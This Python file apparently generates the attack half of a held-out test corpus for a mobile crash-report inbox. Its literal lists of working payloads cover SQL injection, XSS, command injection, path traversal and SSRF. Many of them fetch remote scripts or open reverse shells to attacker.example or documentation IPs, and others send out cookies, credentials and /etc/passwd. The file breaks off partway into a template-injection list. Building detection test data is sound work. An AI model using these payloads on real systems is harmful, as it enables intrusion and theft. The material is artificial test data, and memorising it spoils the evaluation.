#!/usr/bin/env python3
"""Attack half of the crashreports held-out corpus (mobile crash-report / feedback inbox).

Standard library only. Almost everything is a hand-written literal (category, class, value).
A small number of values per category come from ONE template that joins a hand-written
theme prefix to a hand-written payload, optionally applying one hand-coded encoding.
Deterministic: random.Random(SEED).
"""
import json
import os
import random
import urllib.parse

SEED = 12402
PREFIX = "hac4"

# ------------------------------------------------------------------ sqli (72 literal + 8 template)
SQLI = [
    ("plain-boolean-string", "' OR '1'='1"),
    ("plain-boolean-comment", "x' or 1=1-- -"),
    ("plain-numeric-boolean", "8812 OR 1=1"),
    ("note-union-select", "Crash on launch 5.3.1' UNION SELECT username, password_hash FROM users-- -"),
    ("note-union-select-null", "Pixel 7' UNION ALL SELECT NULL,NULL,concat(email,0x3a,api_token),NULL FROM accounts#"),
    ("search-union-information-schema", "camera crash') UNION SELECT table_name,column_name FROM information_schema.columns-- "),
    ("version-filter-union", "5.3.1' UNION SELECT @@version,user(),database()-- -"),
    ("mysql-time-sleep", "login loop' AND SLEEP(5)-- -"),
    ("mysql-time-if-sleep", "Samsung' AND IF(SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a',SLEEP(3),0)#"),
    ("mysql-benchmark", "1 AND BENCHMARK(5000000,SHA1('crash'))"),
    ("mysql-error-extractvalue", "ANR' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e))-- -"),
    ("mysql-error-updatexml", "EXC_BAD_ACCESS' AND updatexml(null,concat(0x3a,(select group_concat(table_name) from information_schema.tables where table_schema=database())),null)-- -"),
    ("mysql-versioned-comment", "crash'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
    ("mysql-comment-as-space", "crash'/**/UnIoN/**/sElEcT/**/password/**/FrOm/**/users#"),
    ("mysql-into-outfile", "feedback' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/up.php'-- -"),
    ("mysql-load-file", "x' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("mysql-hex-string", "0 UNION SELECT 1,password FROM users WHERE username=0x61646d696e"),
    ("pg-time-pg_sleep", "tag:crash'; SELECT pg_sleep(5)--"),
    ("pg-boolean-case-sleep", "ios' AND 1=(SELECT CASE WHEN (SELECT current_user)='postgres' THEN (SELECT 1 FROM pg_sleep(4)) ELSE 1 END)--"),
    ("pg-error-cast", "5310' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("pg-stacked-copy-program", "note'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p.sh|sh'--"),
    ("pg-dollar-quoting", "x' UNION SELECT $$a$$,version()--"),
    ("pg-chr-concat", "android' AND current_setting(CHR(115)||CHR(101)||CHR(114)||CHR(118)||CHR(101)||CHR(114)||CHR(95)||CHR(118)||CHR(101)||CHR(114)||CHR(115)||CHR(105)||CHR(111)||CHR(110)) LIKE '1%'--"),
    ("mssql-waitfor", "Galaxy S23'; WAITFOR DELAY '0:0:5'--"),
    ("mssql-xp_cmdshell", "crash'; EXEC master..xp_cmdshell 'powershell -c iwr http://attacker.example/a.ps1|iex'--"),
    ("mssql-error-convert", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.sql_logins))"),
    ("mssql-stacked-insert-admin", "x'; INSERT INTO agents(email,role) VALUES('helpdesk@attacker.example','admin');--"),
    ("mssql-oob-dns", "x'; DECLARE @h varchar(99); SET @h=(SELECT TOP 1 password FROM users); EXEC('master..xp_dirtree \"\\\\'+@h+'.attacker.example\\a\"')--"),
    ("mssql-openrowset", "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=198.51.100.7;uid=sa;pwd=x','select 1')--"),
    ("oracle-union-dual", "ticket' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("oracle-time-dbms_pipe", "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("oracle-oob-utl_http", "x' AND 1=(SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual)--"),
    ("oracle-error-ctxsys", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("oracle-xmltype-oob", "x' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>'),'/l') FROM dual) IS NOT NULL--"),
    ("sqlite-union-sqlite_master", "crash' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("sqlite-time-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t (d text); INSERT INTO s.t VALUES ('<?php system($_GET[0]); ?>');--"),
    ("sqlite-boolean-substr", "5.3.1' AND substr((SELECT token FROM sessions LIMIT 1),1,1)='e'--"),
    ("order-by-injection", "created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("order-by-column-probe", "priority DESC, (SELECT 1 FROM users WHERE username='admin' AND SUBSTRING(password,1,1)>'m')"),
    ("order-by-if-sleep", "created_at,IF(1=1,SLEEP(4),1)"),
    ("sort-param-case", "(CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>0 THEN rating ELSE created_at END)"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("numeric-subquery", "8812 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
    ("numeric-stacked-drop", "8812; DROP TABLE crash_reports--"),
    ("numeric-stacked-update", "42; UPDATE users SET role='admin' WHERE email='me@attacker.example'--"),
    ("like-wildcard-break", "%' AND 1=0 UNION SELECT api_key,NULL FROM integrations WHERE '%'='"),
    ("double-quote-context", "Pixel\" OR \"\"=\""),
    ("paren-close-boolean", "android') OR ('a'='a"),
    ("backslash-escape-bypass", "crash\\' OR 1=1-- -"),
    ("second-order-username", "admin'-- "),
    ("insert-values-subquery", "great app', (SELECT password FROM users WHERE id=1))-- -"),
    ("json-body-sqli", "{\"device\":\"Pixel 7' OR '1'='1\",\"os\":\"14\"}"),
    ("logcat-line-union", "E/AndroidRuntime: FATAL EXCEPTION: main' UNION SELECT id,secret FROM oauth_clients-- -"),
    ("stacktrace-tail-sleep", "at com.acme.App.onCreate(App.kt:40)'||pg_sleep(6)--"),
    ("deeplink-param-union", "myapp://order/8812' UNION SELECT card_number,expiry FROM payments-- -"),
    ("deeplink-id-numeric", "myapp://order/8812 AND 1=(SELECT COUNT(*) FROM users)"),
    ("tag-filter-boolean", "tag:crash' AND (SELECT 'x' FROM users LIMIT 1)='x"),
    ("mixed-case-keywords", "Crash' uNiOn aLl SeLeCt 1,table_name,3 fRoM information_schema.tables-- -"),
    ("newline-as-space", "crash'\nUNION\nSELECT\nusername,password\nFROM\nusers--"),
    ("tab-and-paren-spacing", "x'\tOR(1)=(1)\t#"),
    ("mysql-scientific-no-space", "8812e0UNION SELECT 1,password FROM users-- -"),
    ("having-error", "1' HAVING 1=1--"),
    ("group-concat-exfil", "0' UNION SELECT group_concat(email SEPARATOR ';'),2 FROM agents-- -"),
    ("h2-create-alias", "x'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return null;}'; CALL EXEC('id')--"),
    ("fullwidth-quote-normalized", "crash＇ OR ＇1＇=＇1"),
    ("bool-xor", "1' XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'Z"),
    ("json-operator-mysql", "x' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("pg-stacked-create-role", "x'; CREATE ROLE helper LOGIN SUPERUSER PASSWORD 'Fake-Passw0rd';--"),
    ("mysql-char-function", "1 UNION SELECT CHAR(97,100,109,105,110),password FROM users"),
    ("sqlite-load-extension", "x' UNION SELECT load_extension('/tmp/evil.so','init')--"),
    ("pg-numeric-union-schema", "1 UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema='public'--"),
]
SQLI_PREFIX = ["Bug: search for ", "Crash when filtering by device ", "version:", "Steps: open myapp://ticket/",
               "Reporter name: ", "logcat tag "]
SQLI_PAYLOAD = ["' OR 1=1-- -", "' UNION SELECT null,password FROM users-- -", "' AND SLEEP(5)#",
                "'; WAITFOR DELAY '0:0:7'--", "' AND 1=CAST(version() AS int)--", "' OR 'a'='a"]

# ------------------------------------------------------------------ xss (70 literal + 8 template)
XSS = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("note-svg-onload", "Crash on launch again <svg onload=fetch('https://attacker.example/c?'+document.cookie)>"),
    ("bug-report-script-src", "Steps to reproduce attached <script src=https://attacker.example/x.js></script>"),
    ("stacktrace-img", "at com.acme.App.onCreate(App.kt:40)<img src=1 onerror=\"new Image().src='//attacker.example/?c='+document.cookie\">"),
    ("attr-breakout-double", "Pixel 7\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout-single", "iPhone 15' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout-tag", "\"><script>alert(1)</script>"),
    ("deeplink-javascript-href", "javascript:alert(document.cookie)"),
    ("deeplink-javascript-comment", "javascript://myapp.order/%0aalert(document.domain)"),
    ("deeplink-javascript-entity", "jav&#x61;script:alert(1)"),
    ("deeplink-javascript-tab", "java\tscript:fetch('//attacker.example/'+localStorage.token)"),
    ("data-uri-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("markdown-link-javascript", "[Open crash log](javascript:alert(document.cookie))"),
    ("markdown-image-onerror", "![screenshot](x\" onerror=\"alert(1))"),
    ("details-ontoggle", "Full trace below 👇 <details open ontoggle=alert(1)>stack trace</details>"),
    ("body-onload", "Release 5.3.2 draft <body onload=alert('xss')>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("iframe-javascript-src", "Screen recording: <iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-svg-data", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("video-source-onerror", "screen-20240514-0912.mp4 <video><source onerror=\"alert(1)\"></video>"),
    ("audio-src-onerror", "voice memo 3.m4a <audio src=x onerror=alert(1)>"),
    ("input-autofocus", "Login button does nothing <input autofocus onfocus=alert(document.cookie)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-breakout", "Steps: 1. open app 2. paste </textarea><script>alert(1)</script>"),
    ("title-breakout", "Crash on launch (5.3.1)</title><img src=x onerror=alert(1)>"),
    ("style-breakout", "Dark mode colours broken </style><svg/onload=alert(1)>"),
    ("script-string-breakout", "';alert(document.cookie);//"),
    ("script-template-literal", "${alert(document.domain)}"),
    ("script-close-in-json", "</script><script>alert(1)</script>"),
    ("case-mixed-script", "ANR on Galaxy A54 <ScRiPt>alert(1)</sCrIpT>"),
    ("no-space-slash", "iPhone14,5<svg/onload=alert`1`>"),
    ("entity-encoded-handler", "<a href=\"#\" onclick=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">open log</a>"),
    ("unicode-escape-js", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("urlencoded-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("double-urlencoded-img", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("html-entity-tags-decoded-later", "&lt;img src=x onerror=alert(1)&gt;"),
    ("fullwidth-brackets-normalized", "＜script＞alert(1)＜/script＞"),
    ("angularjs-csti", "Hi {{constructor.constructor('alert(1)')()}}, your ticket #48121 is resolved"),
    ("angularjs-csti-orderby", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("vue-template-injection", "{{_c.constructor('alert(1)')()}}"),
    ("mxss-math-style", "EXC_BAD_ACCESS in PlayerViewController <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>tap</text></a></svg>"),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("meta-refresh", "What's new in 5.4 <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("form-action-phish", "<form action=https://attacker.example/login method=post><input name=password placeholder='Re-enter password'><button>Continue</button></form>"),
    ("link-import-css-exfil", "<style>@import url(https://attacker.example/leak.css);</style>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>new crash</marquee>"),
    ("entity-javascript-href", "<a href=\"&#106;avascript:alert(1)\">crash log</a>"),
    ("contenteditable-onfocus", "<div contenteditable autofocus onfocus=alert(1)>edit me</div>"),
    ("onpointerover", "<p onpointerover=alert(1)>Tap here for logs</p>"),
    ("logcat-line-script", "W/ReactNativeJS: Possible Unhandled Promise Rejection <script>fetch('//attacker.example/k?'+document.cookie)</script>"),
    ("device-model-img", "SM-S918B<img src=x onerror=alert(document.domain)>"),
    ("feature-request-iframe", "Please add dark mode <iframe src=https://attacker.example/phish style=position:fixed;inset:0;width:100%;height:100%;border:0></iframe>"),
    ("agent-reply-signature-svg", "Regards, Priya <svg><script>alert(1)</script></svg>"),
    ("release-note-markdown-html", "## 5.3.2\n- Fixed crash <img src=x onerror=import('//attacker.example/m.js')>"),
    ("filename-xss", "crash_<img src=x onerror=alert(1)>.txt"),
    ("path-xss", "/data/user/0/com.acme.notes/files/\"><svg onload=alert(1)>.json"),
    ("username-xss", "Zoë<script>alert(1)</script>"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("settimeout-string", "<img src=x onerror=setTimeout('ale'+'rt(1)')>"),
    ("window-location-name", "Feature request: widgets <svg onload=location=name>"),
    ("top-bracket-access", "Pixel 8 Pro / Android 14 <img src=x onerror=top['al'+'ert'](1)>"),
    ("slash-separators", "<img/src/onerror=alert(1)>"),
    ("overlong-utf8-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("percent-u-encoding", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("xhtml-namespace-script", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
]
XSS_PREFIX = ["Crash on open: ", "Device name: ", "Feedback: love it ", "Stack: at MainActivity.kt:12 ",
              "Title: ", "myapp://chat/thread/5521?message="]
XSS_PAYLOAD = ["<svg onload=alert(1)>", "<img src=x onerror=alert(document.cookie)>", "\"><script>alert(1)</script>",
               "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>"]

# ------------------------------------------------------------------ cmdi (62 literal + 8 template)
CMDI = [
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-uname", "&& uname -a"),
    ("filename-semicolon-curl-sh", "crash_5.3.1.log; curl -s http://attacker.example/s.sh | sh"),
    ("filename-subshell", "tombstone_07$(wget -qO- http://attacker.example/x|bash)"),
    ("filename-backtick", "MyApp-2024-05-14.ips`id > /tmp/pwn`"),
    ("dsym-arg-semicolon", "MyApp.app.dSYM; cat /etc/passwd"),
    ("atos-address-injection", "0x0000000102f1a2b0 && nc attacker.example 4444 -e /bin/sh"),
    ("ndk-stack-pipe", "tombstone_07 | bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("addr2line-newline", "0x4f3a8\ncurl http://attacker.example/$(hostname)"),
    ("package-name-or", "com.acme.notes || ping -c 3 attacker.example"),
    ("version-string-subshell", "5.3.1$(sleep 10)"),
    ("device-model-backtick", "Pixel 7 `curl attacker.example/$(whoami)`"),
    ("adb-arg-logcat", "com.acme.notes; adb shell rm -rf /sdcard/*"),
    ("ifs-space-bypass", "tombstone_07;cat${IFS}/etc/passwd"),
    ("ifs-brace-expansion", "MyApp.app.dSYM;{cat,/etc/shadow}"),
    ("quote-splitting", "com.acme.notes;w'h'o\"am\"i"),
    ("backslash-splitting", ";c\\at /et\\c/pa\\sswd"),
    ("variable-concatenation", ";a=c;b=at;$a$b /etc/passwd"),
    ("glob-path-bypass", "anr_2024-05-14;/???/?at /???/p?ss??"),
    ("hex-printf-eval", ";$(printf '\\x69\\x64')"),
    ("base64-decode-pipe", "crash_5.3.1.log; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("newline-urlencoded", "crash.log%0aid"),
    ("crlf-urlencoded-cmd", "crash.log%0d%0acat%20/etc/passwd"),
    ("semicolon-urlencoded", "crash.log%3Bwhoami"),
    ("double-urlencoded-pipe", "crash.log%257Cid"),
    ("background-amp", "crash.log & curl -d @/etc/passwd http://attacker.example/u &"),
    ("redirect-write-authorized-keys", "x; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyOnlyForTests attacker' >> ~/.ssh/authorized_keys"),
    ("crontab-persistence", "x; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("python-reverse-shell", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("mkfifo-nc", "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f"),
    ("perl-oneliner", "x | perl -e 'system(\"id\")'"),
    ("dns-exfil-nslookup", "x; nslookup $(cat /etc/hostname).attacker.example"),
    ("time-based-sleep", "crash.log; sleep 15 #"),
    ("time-based-ping", "crash.log | ping -n 11 127.0.0.1"),
    ("argi-curl-output", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("argi-curl-config", "--config http://attacker.example/curlrc"),
    ("argi-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/s|sh"),
    ("argi-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argi-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/x.sh"),
    ("argi-find-exec", "crashes -exec sh -c 'id > /tmp/o' ;"),
    ("argi-zip-unzip-command", "-TT 'sh -c id #' -T"),
    ("argi-rsync-rsh", "-e 'sh -c \"curl attacker.example|sh\"' x:"),
    ("argi-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argi-sendmail-log", "support@acme.app -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("argi-imagemagick-delegate", "screenshot.png\" -write \"|id > /tmp/m"),
    ("argi-ffmpeg-concat", "screen_recording.mp4 -f concat -safe 0 -i http://attacker.example/list.txt"),
    ("argi-xcrun-simctl-spawn", "booted; xcrun simctl spawn booted /bin/sh -c 'id'"),
    ("argi-adb-shell", "emulator-5554 shell 'cat /data/data/com.acme.notes/shared_prefs/*.xml' | nc attacker.example 80"),
    ("argi-gradle-init", "assembleRelease --init-script http://attacker.example/init.gradle"),
    ("win-ampersand-type", "crash.log & type C:\\Windows\\win.ini"),
    ("win-pipe-dir", "crash.log | dir C:\\Users"),
    ("win-caret-obfuscation", "crash.log & w^h^o^a^m^i"),
    ("win-env-substring", "crash.log & %COMSPEC:~0,1%%COMSPEC:~-4,1% /c whoami"),
    ("win-certutil-download", "x & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("powershell-iex-download", "x; IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"),
    ("powershell-encoded", "x | powershell -NoP -W Hidden -Enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AYQApAA=="),
    ("powershell-subexpression", "Galaxy S23 $(Start-Process calc.exe)"),
    ("powershell-invoke-webrequest", "'; Invoke-WebRequest -Uri http://attacker.example/x -Method POST -Body (Get-Content $env:USERPROFILE\\.aws\\credentials) #"),
    ("logcat-grep-pattern", "acme' /dev/null; id; echo '"),
    ("ping-host-field", "127.0.0.1;cat /proc/self/environ"),
    ("dollar-brace-nested", "${PATH:0:1}etc${PATH:0:1}passwd; cat ${PATH:0:1}etc${PATH:0:1}passwd"),
]
CMDI_PREFIX = ["crash_2024-05-14.log", "tombstone_03", "MyApp.app.dSYM", "PXL_20240514_091233481.jpg",
               "com.acme.notes", "screen-20240514-0912.mp4"]
CMDI_PAYLOAD = ["; id", "| nc attacker.example 4444 -e /bin/sh", "$(curl attacker.example/x.sh|sh)",
                "`cat /etc/passwd`", " && wget http://attacker.example/b -O /tmp/b && sh /tmp/b", " & whoami"]

# ------------------------------------------------------------------ traversal (44 literal + 6 template)
TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-deep-passwd", "../../../../../../../../../../etc/passwd"),
    ("attachment-name-dotdot", "crash_5.3.1/../../../../etc/shadow"),
    ("sandbox-path-escape", "/data/user/0/com.acme.notes/files/../../../../../etc/hosts"),
    ("ios-container-escape", "Documents/../../../../../../private/etc/master.passwd"),
    ("log-file-param-proc", "logs/5.3.1/../../../../proc/self/environ"),
    ("proc-cmdline", "../../../../../proc/self/cmdline"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-ssh-key", "/root/.ssh/id_rsa"),
    ("app-env-file", "dsyms/MyApp-5.3.1/../../.env"),
    ("app-config-yaml", "attachments/48121/../../../config/secrets.yml"),
    ("webinf-web-xml", "screenshots/../../WEB-INF/web.xml"),
    ("spring-application-properties", "../../../../BOOT-INF/classes/application.properties"),
    ("aws-credentials", "../../../../home/app/.aws/credentials"),
    ("kube-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("url-encoded-dots", "crash_5.3.1.log%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("url-encoded-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("double-url-encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("percent-u-encoding", "..%u2215..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("percent-u-dots", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("nested-strip-bypass", "tombstones/....//....//....//....//etc/passwd"),
    ("nested-strip-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("dot-dot-semicolon-tomcat", "/crashes/..;/..;/manager/html"),
    ("windows-backslash", "Logs\\MyApp\\..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-encoded-backslash", "..%5c..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts"),
    ("windows-absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("windows-unc", "\\\\198.51.100.12\\share\\payload.dll"),
    ("windows-mixed-slashes", "..\\../..\\../inetpub/wwwroot/web.config"),
    ("null-byte-extension", "screenshots/IMG_0042/../../../../etc/passwd%00.png"),
    ("null-byte-log", "../../../../etc/passwd\u0000.log"),
    ("mixed-encoding", "..%2F..%5C..%2F..%5Cetc/passwd"),
    ("fullwidth-dots-normalized", "．．／．．／．．／etc／passwd"),
    ("unicode-one-dot-leader", "\u2024\u2024/\u2024\u2024/\u2024\u2024/etc/passwd"),
    ("file-scheme-param", "file:///etc/passwd"),
    ("zip-slip-entry", "../../../../../var/www/html/shell.php"),
    ("zip-slip-android-lib", "../../../../data/data/com.acme.notes/lib/libhermes.so"),
    ("tar-absolute-member", "/etc/cron.d/crashupload"),
    ("logcat-filename-traversal", "logcat_2024-05-14/../../../../../var/log/auth.log"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../../config.php"),
    ("java-jar-url", "jar:file:///opt/app/app.jar!/BOOT-INF/classes/application.yml"),
    ("utf8-bom-dots", "\ufeff../\ufeff../\ufeff../etc/passwd"),
]
TRAV_PREFIX = ["attachments/", "dsyms/", "logs/2024-05-14/", "exports/", "screenshots/"]
TRAV_PAYLOAD = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "..\\..\\..\\..\\windows\\win.ini",
                "../../../../proc/self/environ", "%2e%2e/%2e%2e/%2e%2e/root/.bash_history"]

# ------------------------------------------------------------------ ssrf (44 literal + 6 template)
SSRF = [
    ("plain-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("decimal-ip-metadata", "http://2852039166/latest/meta-data/"),
    ("hex-ip-metadata", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip-metadata", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("ipv6-mapped-metadata", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ipv6-mapped-dotted", "http://[::ffff:169.254.169.254]/latest/api/token"),
    ("ecs-task-metadata", "http://169.254.170.2/v2/credentials/"),
    ("localhost-plain", "http://localhost:8080/actuator/env"),
    ("loopback-short", "http://127.1/admin"),
    ("loopback-zero", "http://0.0.0.0:9200/_cat/indices"),
    ("loopback-decimal", "http://2130706433:6379/"),
    ("loopback-hex", "http://0x7f000001/server-status"),
    ("loopback-octal", "http://0177.0.0.01/"),
    ("loopback-ipv6", "http://[::1]:8500/v1/agent/self"),
    ("loopback-mixed-encoding", "http://0x7f.0.0.1/internal/flags"),
    ("loopback-fullwidth-digits", "http://１２７.０.０.１/admin"),
    ("loopback-circled-digits", "http://①②⑦.⓪.⓪.①:2375/containers/json"),
    ("userinfo-confusion", "http://symbols.acme.app@127.0.0.1:8081/"),
    ("userinfo-attacker-host-trick", "https://attacker.example@169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://127.0.0.1:6379#@symbols.acme.app/"),
    ("backslash-parser-confusion", "http://symbols.acme.app\\@10.0.0.5/"),
    ("redirect-open-attacker", "https://attacker.example/302?to=http://169.254.169.254/latest/meta-data/"),
    ("dns-rebinding-name", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
    ("internal-dns-wildcard", "http://127.0.0.1.attacker.example:8080/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2440%0D%0A%0A%0A%2A/1 * * * * curl attacker.example|sh%0A%0A%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0ARCPT%20TO:<ceo@acme.app>%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("dict-redis", "dict://127.0.0.1:6379/info"),
    ("file-scheme-localhost", "file://localhost/etc/passwd"),
    ("file-scheme-windows", "file:///C:/Windows/win.ini"),
    ("ldap-scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("tftp-scheme", "tftp://198.51.100.4:69/crash.bin"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("docker-socket-api", "http://172.17.0.1:2375/containers/json?all=1"),
    ("consul-internal", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("rfc1918-admin", "http://10.0.12.7/admin/users"),
    ("rfc1918-192", "http://192.168.0.1/cgi-bin/config.exp"),
    ("elasticsearch-internal", "http://es-internal.acme.local:9200/crashes/_search?q=*"),
    ("symbol-server-url-metadata", "Symbol server: http://169.254.169.254/latest/meta-data/iam/security-credentials/symbolicator-role"),
]
SSRF_PREFIX = ["webhook_url=", "symbol_server=", "attachment_url=", "avatar=", "dsym_upload_url="]
SSRF_PAYLOAD = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://[::1]:6379/",
                "gopher://127.0.0.1:11211/_stats", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"]

# ------------------------------------------------------------------ code (72 literal + 8 template)
CODE = [
    # SSTI
    ("ssti-jinja2-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-lipsum", "Crash report for {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
